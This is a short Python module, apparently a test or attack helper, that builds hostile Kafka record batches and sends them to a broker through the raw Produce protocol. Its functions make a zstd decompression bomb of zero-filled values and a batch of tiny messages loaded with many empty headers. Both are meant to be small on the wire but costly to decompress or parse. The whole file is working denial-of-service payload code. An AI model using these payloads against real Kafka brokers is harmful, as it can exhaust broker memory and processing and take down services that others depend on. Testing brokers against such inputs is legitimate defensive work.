"""Malicious record batches: small on the wire, large after decompression or parsing."""
import ctypes
import socket
import struct
import time

PLAIN, ZSTD, VERSION, PRODUCE, ALL = 0, 4, 7, 0, -1


def _crc32c(data):
    table = []
    for i in range(256):
        for _ in range(8):
            i = i >> 1 ^ (0x82F63B78 if i & 1 else 0)
        table.append(i)
    crc = 0xFFFFFFFF
    for byte in data:
        crc = table[(crc ^ byte) & 255] ^ crc >> 8
    return crc ^ 0xFFFFFFFF


def _number(n):
    n, out = n << 1 ^ n >> 63, b""
    while n > 127:
        out, n = out + bytes([n & 127 | 128]), n >> 7
    return out + bytes([n])


def _record(i, value, headers=0):
    """Headers without name and value."""
    body = (b"\0" + _number(0) + _number(i) + _number(-1) + _number(len(value)) + value + _number(headers) +
            (_number(0) + _number(-1)) * headers)
    return _number(len(body)) + body


def _compressed(raw):
    library = ctypes.CDLL("libzstd.so.1")
    library.ZSTD_compress.restype = ctypes.c_size_t
    out = ctypes.create_string_buffer(len(raw))
    length = library.ZSTD_compress(out, ctypes.c_size_t(len(raw)), raw, ctypes.c_size_t(len(raw)), 19)
    return out.raw[:length]


def _batch(kind, count, records):
    now = int(time.time() * 1000)
    body = struct.pack(">hiqqqhii", kind, count - 1, now, now, -1, -1, -1, count) + records
    return struct.pack(">qiibI", 0, len(body) + 9, -1, 2, _crc32c(body)) + body


def zeros(count, size):
    """Return a batch of that many values of that size."""
    return _batch(ZSTD, count, _compressed(b"".join(_record(i, bytes(size)) for i in range(count))))


def headers(count, each):
    """Return a batch of one-byte messages, each with that many two-byte headers."""
    return _batch(PLAIN, count, b"".join(_record(i, b"x", each) for i in range(count)))


def produce(address, topic, batch):
    """Send to partition 0. Return the broker's error code."""
    host, port = address.split(":")
    name = struct.pack(">h", len(topic)) + topic.encode()
    body = (struct.pack(">hhihhhi", PRODUCE, VERSION, 1, -1, -1, ALL, 30000) + struct.pack(">i", 1) + name +
            struct.pack(">iii", 1, 0, len(batch)) + batch)
    with socket.create_connection((host, int(port))) as link:
        link.sendall(struct.pack(">i", len(body)) + body)
        length = struct.unpack(">i", link.recv(4, socket.MSG_WAITALL))[0]
        answer = link.recv(length, socket.MSG_WAITALL)
    return struct.unpack_from(">h", answer, 8 + len(name) + 8)[0]
